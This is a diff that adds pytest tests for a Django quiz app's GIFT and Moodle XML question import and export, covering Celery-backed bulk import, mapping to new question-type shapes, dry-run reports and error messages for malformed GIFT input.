+@pytest.mark.django_db(transaction=True)
+def test_a_large_file_is_imported_by_a_real_worker(api_for, teacher, monkeypatch):
+    import time
+
+    from tests.processes import celery_worker
+
+    monkeypatch.setattr("quizzes.services.imports.QUESTION_ASYNC_THRESHOLD", 10)
+    with celery_worker() as worker:
+        r = api_for(teacher).post(
+            f"{URL}/bulk-import", {"file": SimpleUploadedFile("many.gift", _many_questions(600))}, format="multipart"
+        )
+        assert r.status_code == 202, r.json()
+        deadline, job = time.monotonic() + 60, {}
+        while time.monotonic() < deadline:
+            job = api_for(teacher).get(r.json()["status_url"]).json()
+            if job["status"] in ("done", "failed"):
+                break
+            time.sleep(0.25)
+        assert job.get("status") == "done", f"job {job}; worker log:\n{worker.output()}"
+    assert job["result"]["imported"] == 600 and Question.objects.filter(created_by=teacher).count() == 600
+
+
+# --- ready for issue 15's types ------------------------------------------------------------------------------------
+
+
+def test_issue15_shapes_from_real_files():
+    """What Moodle's and the GIFT documentation's questions become in issue 15's shapes once it merges."""
+    from quizzes.interchange.issue15 import issue15_fields
+
+    gift = read_items(fixture("gift_examples.txt")).items
+    assert issue15_fields(gift[30]) == {  # ~%-50%No one ~%50%Grant ~%50%Grant's wife ~%-50%Grant's father
+        "general_feedback": "",
+        "options": ["No one", "Grant", "Grant's wife", "Grant's father"],
+        "details": {"correct": [1, 2], "scoring": "partial"},
+    }
+    assert issue15_fields(gift[18])["details"] == {  # {#=1822:0 =%50%1822:2}
+        "answers": [
+            {"value": 1822.0, "tolerance": 0.0, "fraction": 1.0},
+            {"value": 1822.0, "tolerance": 2.0, "fraction": 0.5},
+        ]
+    }
+    assert issue15_fields(gift[17])["details"] == {"answers": [{"value": 3.1415, "tolerance": 0.0005, "fraction": 1.0}]}
+    assert issue15_fields(gift[14])["details"] == {
+        "pairs": [
+            {"prompt": "Canada", "answer": "Ottawa"},
+            {"prompt": "Italy", "answer": "Rome"},
+            {"prompt": "Japan", "answer": "Tokyo"},
+            {"prompt": "India", "answer": "New Delhi"},
+        ]
+    }
+    assert issue15_fields(gift[27])["details"] == {  # Jesus' hometown: partial credit and feedback kept
+        "fractions": [0.0, 0.25, 0.5, 1.0],
+        "feedback": [
+            "This was an important city, but the wrong answer.",
+            "He was born here, but not raised here.",
+            "You need to be more specific.",
+            "Yes! That's right!",
+        ],
+    }
+    moodle = read_items(fixture("questions.gift.txt")).items
+    assert issue15_fields(moodle[1])["details"]["distractors"] == ["Chat"]  # "= -> Chat" in Moodle's fixture
+    assert issue15_fields(moodle[4])["details"] == {"answers": [{"value": 3.0, "tolerance": 2.0, "fraction": 1.0}]}
+
+
+@pytest.mark.django_db
+def test_the_page_lists_every_changed_or_skipped_question_and_the_first_plain_ones(web, teacher, monkeypatch):
+    monkeypatch.setattr("quizzes.views.REPORT_PLAIN_ROWS", 3)
+    data = _many_questions(6) + b"\n\nPi?{#3.14}\n\n::named::Named question?{T}"
+    page = (
+        web(teacher)
+        .post(reverse("quizzes:question_import"), {"file": SimpleUploadedFile("q.gift", data), "dry_run": "on"})
+        .content.decode()
+    )
+    assert "Question 2: is 2 even?" in page and "Question 3: is 3 even?" not in page
+    assert "numerical not supported" in page and "title “named” not kept" in page
+    assert "8 questions in the file: every question that changed or was skipped is listed" in page
+
+
+@pytest.mark.django_db
+def test_broken_gift_questions_are_reported_one_by_one(teacher):
+    data = b"Never closed?{=a ~b\n\nNever opened? =a}\n\n::t::{=only an answer}\n\nPi?{#three}\n\nFine?{T}\n"
+    result = run(teacher, data, "broken.gift", import_valid=True)
+    assert reasons(result) == {
+        1: "the answer block opened with { is never closed with }",
+        2: "an answer block is closed with } but never opened with {",
+        3: "the question has no text",
+        4: "a numerical answer is not a number",
+    }
+    assert [q["source"] for q in result["questions"]][:3] == ["line 1", "line 3", "line 5 “t”"]
+    assert result["imported"] == 1 and Question.objects.get().text == "Fine?"
+
+
+def test_issue15_questions_export_from_their_details():
+    """Questions shaped as issue 15 stores them (stand-ins here: this branch's Question has no `details`) are
+    written by every format that can hold them, and a round trip through Moodle XML gives the same details back."""
+    from types import SimpleNamespace
+
+    from quizzes.interchange.export import export_questions
+    from quizzes.interchange.issue15 import issue15_fields
+
+    def q(qtype, text, options=None, details=None):
+        return SimpleNamespace(pk=text, type=qtype, text=text, options=options, details=details or {}, topic="T",
+                               marks=2, difficulty="medium", case_sensitive=False, sample_answer="",
+                               marking_rubric="", correct_answer=None, accepted_answers=[],
+                               general_feedback="")  # fmt: skip
+
+    questions = [
+        q("multiple_response", "Which are prime?", ["2", "3", "4", "9"], {"correct": [0, 1], "scoring": "partial"}),
+        q("numeric", "Pi to 2 decimals?", None, {"answers": [{"value": 3.14, "tolerance": 0.005, "fraction": 1}]}),
+        q("matching", "Capitals", None, {"pairs": [{"prompt": "France", "answer": "Paris"},
+                                                  {"prompt": "Italy", "answer": "Rome"}], "distractors": ["Oslo"]}),
+        q("ordering", "Order these", None, {"items": ["a", "b"]}),
+        q("essay_plus", "A type nobody knows", None, {}),
+    ]  # fmt: skip
+    moodle = export_questions(questions, "moodle_xml")
+    assert [r["status"] for r in moodle.report] == ["imported", "imported", "imported", "skipped", "skipped"]
+    assert moodle.report[3]["reason"] == "ordering: this Moodle XML export does not write this type yet"
+    assert (
+        moodle.report[4]["reason"] == "essay_plus (unknown type): this Moodle XML export does not write this type yet"
+    )
+    gift_report = export_questions(questions, "gift").report
+    assert [r["status"] for r in gift_report][3:] == ["skipped", "skipped"]  # never written half empty
+    back = read_items(moodle.data).items
+    assert [issue15_fields(i)["details"] for i in back] == [
+        {"correct": [0, 1], "scoring": "partial"},
+        {"answers": [{"value": 3.14, "tolerance": 0.005, "fraction": 1.0}]},
+        {"pairs": [{"prompt": "France", "answer": "Paris"}, {"prompt": "Italy", "answer": "Rome"}],
+         "distractors": ["Oslo"]},
+    ]  # fmt: skip
+    gift = export_questions(questions, "gift")
+    assert [r["status"] for r in gift.report][:3] == ["imported_with_changes"] * 3  # GIFT has no marks
+    assert gift.report[0]["changes"] == ["marks (2) not kept: the format has none, importers use 1"]
+    assert [issue15_fields(i)["details"] for i in read_items(gift.data).items][1] == {
+        "answers": [{"value": 3.14, "tolerance": 0.005, "fraction": 1.0}]
+    }
